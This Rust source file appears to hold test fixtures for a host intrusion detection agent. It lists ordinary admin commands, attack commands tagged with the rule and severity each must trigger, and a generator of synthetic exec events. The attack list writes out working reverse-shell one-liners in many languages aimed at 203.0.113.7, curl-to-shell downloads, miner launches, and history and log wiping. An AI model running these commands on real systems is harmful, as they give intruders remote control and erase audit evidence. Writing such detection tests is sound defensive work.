//! Commands as our agent reports them, for tests and the benchmark: ordinary
//! administration (which must raise nothing), attacks (each with the rule and level it
//! must raise), and a generator of realistic exec event texts mixing the two.

use serde_json::json;

use crate::Level;

/// One exec as the process plugin sees it.
#[derive(Debug, Clone, Copy)]
pub struct Command {
    pub executable: &'static str,
    pub command_line: &'static str,
    pub parent_executable: &'static str,
    pub parent_command_line: &'static str,
    pub user: &'static str,
}

const fn c(
    executable: &'static str,
    command_line: &'static str,
    parent_executable: &'static str,
    parent_command_line: &'static str,
) -> Command {
    Command {
        executable,
        command_line,
        parent_executable,
        parent_command_line,
        user: "root",
    }
}

const BASH: &str = "/usr/bin/bash";
const LOGIN: &str = "-bash";
const DASH: &str = "/usr/bin/dash";

/// Ordinary administration, each command as typed in a login shell or run by a service.
pub const BENIGN: &[Command] = &[
    // Port probes and health checks through bash's /dev/tcp: one-way redirections.
    c(BASH, "timeout 1 bash -c '</dev/tcp/db1/5432'", BASH, LOGIN),
    c(BASH, "bash -c 'echo > /dev/tcp/127.0.0.1/8080' >/dev/null 2>&1", BASH, LOGIN),
    // Rotated logs cleaned up; PHP's mail() through sendmail.
    c("/usr/bin/rm", "rm -f /var/log/syslog.1 /var/log/messages-20240101 /var/log/auth.log.2.gz", BASH, LOGIN),
    c(DASH, "sh -c /usr/sbin/sendmail -t -i", "/usr/sbin/php-fpm8.2", "php-fpm: pool www"),
    c(BASH, "bash -c curl -s localhost:9200/_cat/health | python3 -m json.tool", BASH, LOGIN),
    c(DASH, "/bin/sh /var/tmp/rpm-tmp.Xa81bQ 1", "/usr/bin/rpm", "rpm -Uvh pkg.rpm"),
    c(BASH, "bash -c 'cat /dev/null > /var/log/syslog.1'", BASH, LOGIN),
    c("/usr/bin/ls", "ls -l", BASH, LOGIN),
    c("/usr/bin/ls", "ls -la /etc/nginx/sites-enabled", BASH, LOGIN),
    c("/usr/bin/ps", "ps aux", BASH, LOGIN),
    c("/usr/bin/ps", "ps -ef --forest", BASH, LOGIN),
    c("/usr/bin/systemctl", "systemctl status nginx", BASH, LOGIN),
    c("/usr/bin/systemctl", "systemctl restart postgresql", BASH, LOGIN),
    c("/usr/bin/systemctl", "systemctl list-units --failed", BASH, LOGIN),
    c("/usr/bin/apt-get", "apt-get update", "/usr/bin/sudo", "sudo apt-get update"),
    c("/usr/bin/apt-get", "apt-get install -y htop", "/usr/bin/sudo", "sudo apt-get install -y htop"),
    c("/usr/bin/dpkg", "dpkg -l", BASH, LOGIN),
    c("/usr/bin/dpkg", "/usr/bin/dpkg --status-fd 35 --configure --pending", "/usr/bin/apt-get", "apt-get install -y htop"),
    c("/usr/bin/tar", "tar czf /backup/etc-2026-11-26.tar.gz /etc", BASH, LOGIN),
    c("/usr/bin/tar", "tar xzf release.tar.gz -C /opt/app", BASH, LOGIN),
    c("/usr/bin/cp", "cp /etc/nginx/nginx.conf /etc/nginx/nginx.conf.bak", BASH, LOGIN),
    c("/usr/bin/mv", "mv app.log app.log.1", BASH, LOGIN),
    c("/usr/bin/rm", "rm -f /var/cache/app/session.tmp", BASH, LOGIN),
    c("/usr/bin/rm", "rm -rf build/", BASH, LOGIN),
    c("/usr/bin/vim.basic", "vim /etc/hosts", BASH, LOGIN),
    c("/usr/bin/nano", "nano /etc/ssh/sshd_config", BASH, LOGIN),
    c("/usr/bin/grep", "grep -r listen /etc/nginx", BASH, LOGIN),
    c("/usr/bin/grep", "grep -i error /var/log/syslog", BASH, LOGIN),
    c("/usr/bin/less", "less /var/log/auth.log", BASH, LOGIN),
    c("/usr/bin/tail", "tail -f /var/log/nginx/access.log", BASH, LOGIN),
    c("/usr/bin/ssh", "ssh web2 uptime", BASH, LOGIN),
    c("/usr/bin/scp", "scp backup.tar.gz backup1:/srv/backups/", BASH, LOGIN),
    c("/usr/bin/rsync", "rsync -az /srv/www/ web2:/srv/www/", BASH, LOGIN),
    c("/usr/bin/journalctl", "journalctl -u nginx --since today", BASH, LOGIN),
    c("/usr/bin/journalctl", "journalctl -xe", BASH, LOGIN),
    c("/usr/bin/bash", "bash -c 'make -j2'", BASH, LOGIN),
    c("/usr/bin/make", "make -j2", BASH, "bash -c 'make -j2'"),
    c("/usr/bin/dash", "/bin/sh -c 'cc -O2 -c main.c -o main.o'", "/usr/bin/make", "make -j2"),
    c("/usr/bin/python3.11", "python3 script.py", BASH, LOGIN),
    c("/usr/bin/python3.11", "/usr/bin/python3 /usr/bin/unattended-upgrade", "/usr/bin/dash", "/bin/sh -c 'test -x /usr/bin/unattended-upgrade && /usr/bin/unattended-upgrade'"),
    c("/usr/bin/dash", "/bin/sh -c '   cd / && run-parts --report /etc/cron.hourly'", "/usr/sbin/cron", "/usr/sbin/cron -f"),
    c("/usr/bin/run-parts", "run-parts --report /etc/cron.hourly", DASH, "/bin/sh -c '   cd / && run-parts --report /etc/cron.hourly'"),
    c("/usr/sbin/logrotate", "/usr/sbin/logrotate /etc/logrotate.conf", "/usr/lib/systemd/systemd", "/sbin/init"),
    c("/usr/sbin/nginx", "nginx: worker process", "/usr/sbin/nginx", "nginx: master process /usr/sbin/nginx -g daemon on; master_process on;"),
    c("/usr/sbin/nginx", "/usr/sbin/nginx -g daemon on; master_process on;", "/usr/lib/systemd/systemd", "/sbin/init"),
    c("/usr/lib/postgresql/16/bin/postgres", "postgres: 16/main: checkpointer", "/usr/lib/postgresql/16/bin/postgres", "/usr/lib/postgresql/16/bin/postgres -D /var/lib/postgresql/16/main -c config_file=/etc/postgresql/16/main/postgresql.conf"),
    c("/usr/lib/postgresql/16/bin/postgres", "postgres: 16/main: autovacuum launcher", "/usr/lib/postgresql/16/bin/postgres", "/usr/lib/postgresql/16/bin/postgres -D /var/lib/postgresql/16/main"),
    c("/usr/bin/dash", "sh -c 'test -f /var/lib/postgresql/16/main/pg_wal/000000010000000000000003 && cp pg_wal/000000010000000000000003 /archive/'", "/usr/lib/postgresql/16/bin/postgres", "postgres: 16/main: archiver"),
    c("/usr/bin/git", "git pull", BASH, LOGIN),
    c("/usr/bin/git", "git log --oneline -5", BASH, LOGIN),
    c("/usr/bin/curl", "curl -o /tmp/release.tar.gz https://releases.example.com/app-1.2.tar.gz", BASH, LOGIN),
    c("/usr/bin/curl", "curl -sS http://127.0.0.1:8080/health", BASH, LOGIN),
    c("/usr/bin/wget", "wget https://releases.example.com/app-1.2.tar.gz", BASH, LOGIN),
    c("/usr/bin/df", "df -h", BASH, LOGIN),
    c("/usr/bin/du", "du -sh /var/log", BASH, LOGIN),
    c("/usr/bin/free", "free -m", BASH, LOGIN),
    c("/usr/bin/top", "top -b -n 1", BASH, LOGIN),
    c("/usr/bin/uptime", "uptime", BASH, LOGIN),
    c("/usr/bin/uname", "uname -a", BASH, LOGIN),
    c("/usr/bin/hostname", "hostname -f", BASH, LOGIN),
    c("/usr/sbin/ip", "ip addr show", BASH, LOGIN),
    c("/usr/bin/ss", "ss -tlnp", BASH, LOGIN),
    c("/usr/bin/id", "id deploy", BASH, LOGIN),
    c("/usr/bin/docker", "docker ps", BASH, LOGIN),
    c("/usr/bin/docker", "docker compose up -d", BASH, LOGIN),
    c("/usr/bin/kubectl", "kubectl get pods -n prod", BASH, LOGIN),
    c("/usr/sbin/useradd", "useradd -m -s /bin/bash deploy", "/usr/bin/sudo", "sudo useradd -m -s /bin/bash deploy"),
    c("/usr/bin/passwd", "passwd deploy", "/usr/bin/sudo", "sudo passwd deploy"),
    c("/usr/bin/chmod", "chmod 640 /etc/app/config.yml", BASH, LOGIN),
    c("/usr/bin/chown", "chown -R www-data:www-data /srv/www", BASH, LOGIN),
    c("/usr/bin/find", "find /var/log -name '*.gz' -mtime +30 -delete", BASH, LOGIN),
    c("/usr/bin/crontab", "crontab -l", BASH, LOGIN),
    c("/usr/bin/mysql", "mysql -u app -p appdb", BASH, LOGIN),
    c("/usr/bin/psql", "psql -U postgres -c 'select 1'", "/usr/bin/sudo", "sudo -u postgres psql -U postgres -c 'select 1'"),
    c("/usr/bin/redis-cli", "redis-cli info memory", BASH, LOGIN),
    c("/usr/bin/openssl", "openssl x509 -in /etc/ssl/certs/site.pem -noout -dates", BASH, LOGIN),
    c("/usr/bin/certbot", "certbot renew --quiet", DASH, "/bin/sh -c 'certbot renew --quiet'"),
    c("/usr/sbin/nft", "nft list ruleset", BASH, LOGIN),
    c("/usr/bin/mount", "mount /dev/sdb1 /mnt/data", BASH, LOGIN),
    c("/usr/bin/sudo", "sudo -i", BASH, LOGIN),
    c("/usr/bin/bash", "-bash", "/usr/sbin/sshd", "sshd: admin [priv]"),
    c("/usr/bin/htop", "htop", BASH, LOGIN),
    c("/usr/bin/which", "which python3", BASH, LOGIN),
    c("/usr/bin/cat", "cat /etc/os-release", BASH, LOGIN),
    c("/usr/bin/head", "head -n 20 /var/log/nginx/error.log", BASH, LOGIN),
    c("/usr/bin/awk", "awk '{print $1}' /var/log/nginx/access.log", BASH, LOGIN),
    c("/usr/bin/sort", "sort -u hosts.txt", BASH, LOGIN),
    c("/usr/bin/pip3", "pip3 install --user requests", BASH, LOGIN),
    c("/usr/bin/node", "node server.js", "/usr/lib/systemd/systemd", "/sbin/init"),
    c("/usr/bin/dash", "sh -c 'node build.js'", "/usr/bin/node", "node /usr/lib/node_modules/npm/bin/npm-cli.js run build"),
    c("/usr/sbin/sshd", "sshd: admin [priv]", "/usr/sbin/sshd", "sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups"),
    c("/usr/bin/ping", "ping -c 3 10.0.0.1", BASH, LOGIN),
    c("/usr/bin/dig", "dig example.com", BASH, LOGIN),
    c("/usr/bin/go", "go build ./...", BASH, LOGIN),
    c("/tmp/go-build2841/b001/exe/main", "/tmp/go-build2841/b001/exe/main", "/usr/bin/go", "go run main.go"),
    c("/usr/bin/ln", "ln -sf /etc/nginx/sites-available/app /etc/nginx/sites-enabled/app", BASH, LOGIN),
    c("/usr/bin/history", "history", BASH, LOGIN),
    c("/usr/bin/nc", "nc -zv db1 5432", BASH, LOGIN),
    c("/usr/bin/socat", "socat TCP-LISTEN:8080,fork TCP:127.0.0.1:80", "/usr/lib/systemd/systemd", "/sbin/init"),
];

/// An attack and what it must raise.
#[derive(Debug, Clone, Copy)]
pub struct Attack {
    pub command: Command,
    pub rule_id: &'static str,
    pub level: Level,
}

const fn a(rule_id: &'static str, level: Level, command: Command) -> Attack {
    Attack {
        command,
        rule_id,
        level,
    }
}

const WWW: &str = "/usr/sbin/nginx";
const WWW_CMD: &str = "nginx: worker process";

pub const ATTACKS: &[Attack] = &[
    a("hids-linux-reverse-shell-bash-dev-tcp", Level::Critical, c(BASH, "bash -c 'exec 3</dev/tcp/203.0.113.7/80; sh <&3 >&3 2>&3'", BASH, LOGIN)),
    a("hids-linux-service-spawns-shell", Level::High, c(DASH, "sh -c id; #sendmail", "/usr/sbin/php-fpm8.2", "php-fpm: pool www")),
    a("hids-linux-script-from-writable", Level::Medium, c(DASH, "sh /tmp/x.sh /tmp/go-build1/", BASH, LOGIN)),
    a("hids-linux-download-piped-to-shell", Level::High, c(DASH, "sh -c curl -s 'http://203.0.113.7/i?a=1&b=2' | sh", BASH, LOGIN)),
    a("hids-linux-download-piped-to-shell", Level::High, c(DASH, "sh -c wget -qO- http://203.0.113.7/x.py | python3", BASH, LOGIN)),
    a("hids-linux-script-from-writable", Level::Medium, c(DASH, "sh /tmp/.x/install.sh", BASH, LOGIN)),
    a("hids-linux-script-from-writable", Level::Medium, c("/usr/bin/python3.11", "python3 /dev/shm/.k.py", BASH, LOGIN)),
    a("hids-linux-service-spawns-shell", Level::High, c(DASH, "sh -c id", "/usr/bin/python3.11", "/usr/bin/python3 /srv/app/venv/bin/gunicorn app:app")),
    a("hids-linux-reverse-shell-bash-dev-tcp", Level::Critical, c(BASH, "bash -c 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'", DASH, "sh -c id")),
    a("hids-linux-reverse-shell-bash-dev-tcp", Level::Critical, c(DASH, "sh -c 'sh -i >& /dev/udp/203.0.113.7/53 0>&1'", BASH, LOGIN)),
    a("hids-linux-reverse-shell-bash-dev-tcp", Level::Critical, c(BASH, "bash -c 'exec 5<>/dev/tcp/203.0.113.7/80;cat <&5 | while read line; do $line 2>&5 >&5; done'", BASH, LOGIN)),
    a("hids-linux-reverse-shell-netcat-exec", Level::Critical, c("/usr/bin/nc.traditional", "nc -e /bin/sh 203.0.113.7 4444", BASH, LOGIN)),
    a("hids-linux-reverse-shell-netcat-exec", Level::Critical, c("/usr/bin/ncat", "ncat 203.0.113.7 4444 --exec /bin/bash", BASH, LOGIN)),
    a("hids-linux-reverse-shell-netcat-exec", Level::Critical, c("/usr/bin/ncat", "ncat --sh-exec 'bash -i' 203.0.113.7 4444", BASH, LOGIN)),
    a("hids-linux-reverse-shell-netcat-exec", Level::Critical, c("/usr/bin/nc", "nc 203.0.113.7 4444 -c bash", BASH, LOGIN)),
    a("hids-linux-reverse-shell-socat", Level::Critical, c("/usr/bin/socat", "socat tcp-connect:203.0.113.7:4444 exec:/bin/sh,pty,stderr,setsid,sigint,sane", BASH, LOGIN)),
    a("hids-linux-reverse-shell-socat", Level::Critical, c("/usr/bin/socat", "socat TCP:203.0.113.7:4444 SYSTEM:bash", BASH, LOGIN)),
    a("hids-linux-reverse-shell-interpreter", Level::Critical, c("/usr/bin/python3.11", "python3 -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect((\"203.0.113.7\",4444));os.dup2(s.fileno(),0); os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);import pty; pty.spawn(\"/bin/bash\")'", BASH, LOGIN)),
    a("hids-linux-reverse-shell-interpreter", Level::Critical, c("/usr/bin/perl", "perl -e 'use Socket;$i=\"203.0.113.7\";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");open(STDOUT,\">&S\");exec(\"/bin/sh -i\");};'", BASH, LOGIN)),
    a("hids-linux-reverse-shell-interpreter", Level::Critical, c("/usr/bin/php8.2", "php -r '$sock=fsockopen(\"203.0.113.7\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");'", BASH, LOGIN)),
    a("hids-linux-reverse-shell-interpreter", Level::Critical, c("/usr/bin/ruby3.1", "ruby -rsocket -e'f=TCPSocket.open(\"203.0.113.7\",4444).to_i;exec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\",f,f,f)'", BASH, LOGIN)),
    a("hids-linux-reverse-shell-interpreter", Level::Critical, c("/usr/bin/lua5.3", "lua -e \"require('socket');require('os');t=socket.tcp();t:connect('203.0.113.7','4444');os.execute('/bin/sh -i <&3 >&3 2>&3');\"", BASH, LOGIN)),
    a("hids-linux-reverse-shell-fifo", Level::Critical, c(DASH, "sh -c 'rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.7 4444 >/tmp/f'", WWW, WWW_CMD)),
    a("hids-linux-reverse-shell-fifo", Level::Critical, c(BASH, "bash -c 'mknod /tmp/p p && telnet 203.0.113.7 4444 0</tmp/p | /bin/bash 1>/tmp/p'", BASH, LOGIN)),
    a("hids-linux-reverse-shell-telnet", Level::Critical, c(DASH, "sh -c 'telnet 203.0.113.7 4444 | /bin/bash | telnet 203.0.113.7 4445'", BASH, LOGIN)),
    a("hids-linux-service-spawns-shell", Level::High, c(DASH, "sh -c id", WWW, WWW_CMD)),
    a("hids-linux-service-spawns-shell", Level::High, c(BASH, "bash -c 'cat /etc/passwd'", "/usr/sbin/php-fpm8.2", "php-fpm: pool www")),
    a("hids-linux-service-spawns-shell", Level::High, c(DASH, "/bin/sh -c whoami", "/usr/lib/jvm/java-17-openjdk-amd64/bin/java", "/usr/lib/jvm/java-17-openjdk-amd64/bin/java -Dcatalina.base=/var/lib/tomcat9 org.apache.catalina.startup.Bootstrap start")),
    a("hids-linux-service-spawns-shell", Level::High, c(DASH, "sh -c 'uname -a'", "/usr/sbin/mysqld", "/usr/sbin/mysqld")),
    a("hids-linux-service-spawns-shell", Level::High, c(BASH, "bash", "/usr/lib/postgresql/16/bin/postgres", "postgres: 16/main: app appdb 10.0.0.5(51234) idle")),
    a("hids-linux-service-spawns-shell", Level::High, c(DASH, "sh -c 'ls /'", "/usr/bin/redis-server", "/usr/bin/redis-server 127.0.0.1:6379")),
    a("hids-linux-service-spawns-shell", Level::High, c(DASH, "sh -c 'id'", "/usr/sbin/apache2", "/usr/sbin/apache2 -k start")),
    a("hids-linux-service-spawns-shell", Level::High, c(DASH, "sh -c 'ls'", "/usr/bin/node", "node /srv/app/server.js")),
    a("hids-linux-download-piped-to-shell", Level::High, c(DASH, "sh -c \"curl -fsSL http://203.0.113.7/x.sh | sh\"", BASH, LOGIN)),
    a("hids-linux-download-piped-to-shell", Level::High, c(BASH, "bash -c 'wget -qO- http://203.0.113.7/i | bash'", BASH, LOGIN)),
    a("hids-linux-download-piped-to-shell", Level::High, c(DASH, "sh -c 'curl -s http://203.0.113.7/i|sudo bash -s'", BASH, LOGIN)),
    a("hids-linux-download-substituted-into-shell", Level::High, c(BASH, "bash -c \"$(curl -fsSL http://203.0.113.7/install.sh)\"", BASH, LOGIN)),
    a("hids-linux-exec-from-memory", Level::High, c("/dev/shm/.x/kworker", "/dev/shm/.x/kworker", BASH, LOGIN)),
    a("hids-linux-exec-from-memory", Level::High, c("/memfd:payload (deleted)", "[kworker/0:1]", BASH, LOGIN)),
    a("hids-linux-exec-from-memory", Level::High, c("/usr/local/bin/agentd (deleted)", "agentd", BASH, LOGIN)),
    a("hids-linux-exec-from-tmp", Level::Medium, c("/tmp/.ICE-unix/x", "/tmp/.ICE-unix/x -p 8080", BASH, LOGIN)),
    a("hids-linux-exec-from-tmp", Level::Medium, c("/var/tmp/update", "/var/tmp/update", DASH, "sh -c /var/tmp/update")),
    a("hids-linux-crypto-miner", Level::High, c("/opt/.cache/xmrig", "xmrig -o pool.example.net:3333 -u wallet", BASH, LOGIN)),
    a("hids-linux-crypto-miner", Level::High, c("/usr/local/bin/systemd-helper", "systemd-helper -a cryptonight -o stratum+tcp://pool.example.net:3333 --donate-level 1", BASH, LOGIN)),
    a("hids-linux-crypto-miner", Level::High, c("/usr/bin/minerd", "minerd -a scrypt -o stratum+tcp://pool.example.net:3333", BASH, LOGIN)),
    a("hids-linux-history-tampering", Level::High, c(BASH, "bash -c 'history -c'", BASH, LOGIN)),
    a("hids-linux-history-tampering", Level::High, c(BASH, "bash -c 'unset HISTFILE; id'", BASH, LOGIN)),
    a("hids-linux-history-tampering", Level::High, c(BASH, "bash -c 'export HISTFILE=/dev/null'", BASH, LOGIN)),
    a("hids-linux-history-tampering", Level::High, c("/usr/bin/rm", "rm -f /root/.bash_history", BASH, LOGIN)),
    a("hids-linux-history-tampering", Level::High, c("/usr/bin/shred", "shred -u /home/admin/.bash_history", BASH, LOGIN)),
    a("hids-linux-history-tampering", Level::High, c("/usr/bin/ln", "ln -sf /dev/null /root/.bash_history", BASH, LOGIN)),
    a("hids-linux-log-file-tampering", Level::High, c("/usr/bin/rm", "rm -f /var/log/auth.log", BASH, LOGIN)),
    a("hids-linux-log-file-tampering", Level::High, c("/usr/bin/truncate", "truncate -s 0 /var/log/wtmp", BASH, LOGIN)),
    a("hids-linux-log-file-tampering", Level::High, c("/usr/bin/shred", "shred -zu /var/log/secure", BASH, LOGIN)),
    a("hids-linux-log-file-tampering", Level::High, c(BASH, "bash -c 'cat /dev/null > /var/log/lastlog'", BASH, LOGIN)),
    a("hids-linux-journal-vacuum", Level::Medium, c("/usr/bin/journalctl", "journalctl --vacuum-time=1s", BASH, LOGIN)),
    a("hids-linux-journal-vacuum", Level::Medium, c("/usr/bin/journalctl", "journalctl --rotate --vacuum-size=1K", BASH, LOGIN)),
];

/// Discovery commands an intruder runs in a row (the discovery burst rule counts them).
pub const DISCOVERY: &[Command] = &[
    c("/usr/bin/whoami", "whoami", DASH, "sh -c whoami"),
    c("/usr/bin/id", "id", DASH, "sh -c id"),
    c("/usr/bin/uname", "uname -a", DASH, "sh -c 'uname -a'"),
    c("/usr/bin/hostname", "hostname", DASH, "sh -c hostname"),
    c("/usr/sbin/ip", "ip a", DASH, "sh -c 'ip a'"),
    c("/usr/sbin/ifconfig", "ifconfig", DASH, "sh -c ifconfig"),
    c(
        "/usr/bin/netstat",
        "netstat -antp",
        DASH,
        "sh -c 'netstat -antp'",
    ),
    c("/usr/bin/ss", "ss -antp", DASH, "sh -c 'ss -antp'"),
    c(
        "/usr/bin/cat",
        "cat /etc/passwd",
        DASH,
        "sh -c 'cat /etc/passwd'",
    ),
    c("/usr/bin/who", "who", DASH, "sh -c who"),
    c("/usr/bin/last", "last -n 20", DASH, "sh -c 'last -n 20'"),
    c(
        "/usr/bin/cat",
        "cat /proc/version",
        DASH,
        "sh -c 'cat /proc/version'",
    ),
];

/// Where a generated exec event happened.
#[derive(Debug, Clone, Copy)]
pub struct Origin<'a> {
    pub host_id: &'a str,
    pub hostname: &'a str,
    /// Event time, µs since the epoch.
    pub time_micros: i64,
    pub pid: u32,
    pub parent_pid: u32,
    pub sequence: u64,
}

/// The exec event our agent writes for `cmd` (docs/events.md), as one JSON line.
pub fn exec_event(cmd: &Command, at: &Origin<'_>) -> String {
    let args = split_args(cmd.command_line);
    let parent_args = split_args(cmd.parent_command_line);
    let ts = hids_types::Timestamp::from_unix_nanos(
        u64::try_from(at.time_micros)
            .unwrap_or(0)
            .saturating_mul(1000),
    );
    let name = |exe: &str| {
        exe.rsplit('/')
            .next()
            .unwrap_or(exe)
            .chars()
            .take(15)
            .collect::<String>()
    };
    let boot_ticks = 139_279;
    json!({
        "@timestamp": ts,
        "event": {"kind": "event", "category": ["process"], "type": ["start"], "action": "exec",
                  "sequence": at.sequence, "module": "hids", "dataset": "hids.process"},
        "host": {"id": at.host_id, "hostname": at.hostname},
        "process": {
            "pid": at.pid, "entity_id": format!("{}-{}", at.pid, boot_ticks),
            "name": name(cmd.executable), "executable": cmd.executable,
            "args": args, "args_count": args.len(), "command_line": cmd.command_line,
            "working_directory": "/root", "start": ts, "interactive": false,
            "session_leader": {"pid": 1054},
            "parent": {"pid": at.parent_pid, "entity_id": format!("{}-{}", at.parent_pid, boot_ticks - 7),
                       "name": name(cmd.parent_executable), "executable": cmd.parent_executable,
                       "args": parent_args, "command_line": cmd.parent_command_line}
        },
        "user": {"id": if cmd.user == "root" { "0" } else { "1000" }, "name": cmd.user},
        "group": {"id": "0", "name": "root"},
        "hids": {"plugin": "process", "run_id": "5c93976bb69e3e1e", "capture": "ebpf", "pid_ns": 4026531836u64}
    })
    .to_string()
}

/// Shell-like word splitting (quotes grouped, not interpreted further): good enough to
/// make `process.args` look like the agent's.
fn split_args(line: &str) -> Vec<String> {
    let mut args = Vec::new();
    let mut cur = String::new();
    let mut quote = None;
    for ch in line.chars() {
        match (quote, ch) {
            (None, '\'' | '"') => quote = Some(ch),
            (Some(q), _) if ch == q => quote = None,
            (None, ' ') => {
                if !cur.is_empty() {
                    args.push(std::mem::take(&mut cur));
                }
            }
            _ => cur.push(ch),
        }
    }
    if !cur.is_empty() {
        args.push(cur);
    }
    args
}

/// A deterministic stream of exec event texts: `attack_per_mille` in 1000 are attacks,
/// the rest ordinary administration, over `hosts` hosts, 10 ms apart per host.
pub fn event_mix(count: usize, hosts: usize, attack_per_mille: u32, seed: u64) -> Vec<String> {
    let mut rng = seed | 1;
    let mut next = move || {
        // xorshift64*: reproducible and dependency-free.
        rng ^= rng >> 12;
        rng ^= rng << 25;
        rng ^= rng >> 27;
        rng.wrapping_mul(0x2545_f491_4f6c_dd1d)
    };
    let hosts = hosts.max(1);
    let host_ids: Vec<String> = (0..hosts)
        .map(|h| format!("{:032x}", (h as u128 + 1) * 0x9e37_79b9_7f4a_7c15))
        .collect();
    (0..count)
        .map(|i| {
            let r = next();
            let cmd = if (r % 1000) < u64::from(attack_per_mille) {
                &ATTACKS[(r >> 10) as usize % ATTACKS.len()].command
            } else {
                &BENIGN[(r >> 10) as usize % BENIGN.len()]
            };
            let host = i % hosts;
            let origin = Origin {
                host_id: &host_ids[host],
                hostname: "web",
                time_micros: 1_795_000_000_000_000 + (i / hosts) as i64 * 10_000,
                pid: 20_000 + (i % 30_000) as u32,
                parent_pid: 1054 + (r >> 40) as u32 % 64,
                sequence: (i / hosts) as u64 + 1,
            };
            exec_event(cmd, &origin)
        })
        .collect()
}
